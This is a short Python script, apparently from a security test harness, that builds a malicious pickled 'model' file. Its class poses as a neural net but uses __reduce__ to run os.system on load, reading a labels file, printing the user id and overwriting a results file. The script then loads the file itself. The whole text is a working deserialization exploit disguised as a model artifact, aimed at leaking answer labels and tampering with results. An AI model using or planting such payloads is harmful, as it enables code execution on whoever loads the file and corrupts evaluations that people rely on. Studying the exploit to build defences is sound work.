"""Hand in a model file that runs a command when it is loaded."""

import os
import pickle
from pathlib import Path

from aims import AIM, SCRATCH


class Model:
    """A net, as it seems."""

    def __reduce__(self) -> tuple:
        return os.system, (f"cat '{AIM['labels']}'; id -u; echo changed > '{AIM['results']}'",)


path = Path(SCRATCH, "net.model")
path.write_bytes(pickle.dumps(Model()))
pickle.loads(path.read_bytes())
